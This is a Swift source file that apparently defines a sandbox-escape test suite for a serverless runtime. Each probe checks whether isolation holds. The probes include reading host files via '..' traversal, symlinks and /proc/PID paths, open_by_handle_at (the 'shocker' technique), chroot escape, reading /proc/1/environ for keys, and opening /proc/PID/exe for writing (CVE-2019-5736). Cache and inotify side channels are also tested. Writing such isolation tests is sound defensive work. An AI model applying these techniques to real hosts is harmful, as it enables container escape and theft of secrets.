// Files of the host, by every road that has led to them somewhere. The host's secret may be read by anybody, so what
// holds is that it cannot be named, not its permissions.

internal import CAttacks
import Glibc

extension Attack {
    static let hostFiles: [Attack] = [
        Attack("host-file-by-path", "Reads a file of the host by its absolute path.", .outside) { stage in
            try seek(stage.token, at: stage.secret)
        },
        Attack("host-file-by-dots", "Climbs above the root and the working directory with `..`.", .outside) { stage in
            let up = String(repeating: "../", count: 40)
            return try first(of: ["/", "", "/proc/self/cwd/", "/tmp/", "/dev/shm/"]) { start in
                try seek(stage.token, at: start + up + stage.secret.dropFirst())
            }
        },
        Attack("host-file-by-own-symlink", "Makes a symbolic link to a file of the host and follows it.", .outside) {
            stage in
            let link = try scratchDirectory() + "/link"
            _ = call(__NR_unlink, link)
            guard call(__NR_symlink, try stage.secret, link) == 0 else { throw Broken("symlink \(link)") }
            defer { _ = call(__NR_unlink, link) }
            return try seek(stage.token, at: link)
        },
        Attack("host-file-by-layer-symlink", "Follows links to the host that came in a layer.", .outside) {
            stage in
            let layer = try stage.text("layer")
            return try first(of: ["absolute-link", "relative-link"]) { try seek(stage.token, at: "\(layer)/\($0)") }
        },
        Attack("host-file-by-proc-root", "Goes through /proc/PID/root of every other process.", .outside) { stage in
            try first(of: stage.others) { try seek(stage.token, at: "/proc/\($0)/root\(stage.secret)") }
        },
        Attack("host-file-by-proc-cwd", "Goes through /proc/PID/cwd of every other process.", .outside) { stage in
            let up = String(repeating: "/..", count: 40)
            return try first(of: stage.others) { try seek(stage.token, at: "/proc/\($0)/cwd\(up)\(stage.secret)") }
        },
        Attack("host-file-by-proc-fd", "Opens what other processes have open, through /proc/PID/fd.", .outside) {
            stage in
            try first(of: stage.others) { pid in
                try first(of: 0..<64) { try seek(stage.token, at: "/proc/\(pid)/fd/\($0)") }
            }
        },
        Attack(
            "host-file-by-inherited-descriptor",
            "Starts from a directory of the host that whoever started the engine had open.",
            .without([.closedDescriptors])
        ) { stage in
            let relative = String(try stage.secret.dropFirst())
            return try first(of: Int32(3)..<1024) { descriptor in
                seek(
                    try stage.token, in: contents(of: relative, in: descriptor), of: "descriptor \(descriptor)",
                    held: [])
            }
        },
        Attack("host-file-by-handle", "Opens a file by the number of its inode (CVE-2014-9357, `shocker`).", .outside) {
            stage in
            // The handle was made on the host; any directory of the same file system will do to start from.
            let halves = try stage.text("handle").split(separator: ":")
            let bytes = halves[1].split(separator: ".").compactMap { UInt8($0) }
            return try first(of: ["/", try stage.text("code"), try stage.text("layer"), "/tmp", "/etc", "/dev/null"]) {
                path in
                let start = openFile(path)
                guard start >= 0 else { return .held("opening \(path): \(Errno(start))") }
                defer { closeFile(start) }
                let file = unsafe attack_open_handle(Int32(start), bytes, UInt32(bytes.count), Int32(halves[0])!)
                guard file >= 0 else {
                    return try judge(
                        "open_by_handle_at from \(path)", file, held: Reasons.refused + [ESTALE, EOPNOTSUPP])
                }
                defer { closeFile(file) }
                return seek(try stage.token, in: contents(of: file), of: "handle from \(path)", held: [])
            }
        },
        Attack("host-file-by-chroot-escape", "Walks out of a chroot by making another one below it.", .chrooted) {
            stage in
            let below = try scratchDirectory()
            let root = openFile("/")
            let changed = call(__NR_chroot, below)
            guard changed == 0 else { return try judge("chroot", changed) }
            _ = call(__NR_fchdir, root)
            for _ in 0..<64 { _ = call(__NR_chdir, "..") }
            _ = call(__NR_chroot, ".")
            return try seek(stage.token, at: stage.secret)
        },
        Attack("host-file-written", "Opens a file of the host to write, one that anybody may write.", .outside) {
            stage in
            try judgeRewriting(stage.text("writable"))
        },
        Attack("host-file-made", "Makes a file in a directory of the host that is open to all.", .outside) { stage in
            let path = try stage.text("writable") + ".made"
            let file = openFile(path, O_CREAT | O_EXCL | O_WRONLY)
            if file >= 0 { _ = call(__NR_unlink, path) }
            return try judge("making \(path)", file, held: Reasons.absent)
        },
        Attack(
            "host-environment", "Finds the environment of whoever started the engine, with the keys it may hold.",
            .outside
        ) { stage in
            // The first process of the host is not asked.
            let processes = stage.isInOwnPidNamespace ? ["self", "1"] : ["self"]
            return try first(of: processes) { try seek(stage.text("leak"), at: "/proc/\($0)/environ") }
        },
        Attack(
            "engine-program-overwritten",
            "Overwrites the engine's program through /proc/PID/exe of a process it left inside (CVE-2019-5736).",
            .outside
        ) { stage in
            // A program that runs cannot be opened to write, whoever asks: `text file busy` comes after the permission.
            try first(of: stage.others) { pid in
                let path = "/proc/\(pid)/exe"
                let file = openFile(path, O_WRONLY)
                if file >= 0 { closeFile(file) }
                return try judge("opening \(path) to write", file, reached: [ETXTBSY], held: Reasons.absent)
            }
        },
    ]

    static let ownFiles: [Attack] = [
        Attack(
            "root-written", "Changes the runtime's files, which other environments share.", .without([.readOnly]),
            body: { _ in try judgeMaking("/writable") }),
        Attack(
            "code-written", "Changes the function's code, which other environments share.", .without([.readOnly]),
            body: { _ in try judgeMaking("/var/task/writable") }),
        Attack(
            "layer-written", "Changes a layer, which other functions share.", .without([.readOnly]),
            body: { _ in try judgeMaking("/opt/writable") }),
    ]

    /// What the kernel keeps for an inode must not be a way from one sandbox to another, or to the host.
    static let sharedInodes: [Attack] =
        [("root", "/shared"), ("code", "/var/task/shared"), ("layer", "/opt/shared")].flatMap { name, path in
            [
                Attack(
                    "\(name)-lock-seen", "Sees by a lock on a file of the \(name) who else uses it.",
                    .without([.ownInodes])
                ) { _ in
                    let file = openFile(path)
                    guard file >= 0 else { throw Broken("\(path): \(Errno(file))") }
                    defer { closeFile(file) }
                    let locked = call(__NR_flock, file, LOCK_SH | LOCK_NB)
                    return locked == -Int(EWOULDBLOCK)
                        ? .through("somebody else has locked \(path)") : .held("nobody's lock on \(path) is seen")
                },
                Attack(
                    "\(name)-watched", "Learns by inotify when others open a file of the \(name).",
                    .without([.ownInodes])
                ) { _ in
                    let watch = call(__NR_inotify_init1, O_NONBLOCK)
                    guard watch >= 0 else { throw Broken("inotify_init1: \(Errno(watch))") }
                    defer { closeFile(watch) }
                    let added = call(__NR_inotify_add_watch, watch, path, 0x20)
                    guard added >= 0 else { throw Broken("watching \(path): \(Errno(added))") }
                    let events = Buffer(4096)
                    for _ in 0..<100 {
                        if call(__NR_read, watch, events, events.count) > 0 { return .through("\(path) was opened") }
                        usleep(10_000)
                    }
                    return .held("nobody seems to open \(path)")
                },
            ]
        } + [
            Attack(
                "cached-pages-probed", "Asks for a page of a file only if it is in memory: who has read it?",
                .without([.ownInodes])
            ) { _ in
                let file = openFile("/shared")
                guard file >= 0 else { throw Broken("/shared: \(Errno(file))") }
                defer { closeFile(file) }
                let page = Buffer(64)
                let vector = unsafe [UInt64(UInt(bitPattern: page.address)), 64]
                // RWF_NOWAIT
                let result = call(__NR_preadv2, file, vector, 1, 0, 0, 8)
                return try judge("preadv2", result, reached: [EAGAIN], held: Reasons.refused + [EOPNOTSUPP])
            },
            Attack(
                "cached-pages-dropped", "Sends pages of a shared file out of memory, to see who fetches them again.",
                .without([.seccomp])
            ) { _ in
                // The kernel would look for the file first.
                let result = call(__NR_fadvise64, -1, 0, 0, 4)
                return result == -Int(EBADF)
                    ? .through("posix_fadvise reached the kernel")
                    : result == 0 ? .held("answered without being done") : try judge("posix_fadvise", result)
            },
        ]

    private static func judgeMaking(_ directory: String) throws -> Finding {
        let path = directory + "/made"
        let file = openFile(path, O_CREAT | O_EXCL | O_WRONLY)
        if file >= 0 { _ = call(__NR_unlink, path) }
        return try judge("making \(path)", file, held: [EROFS, EACCES, EPERM])
    }
}
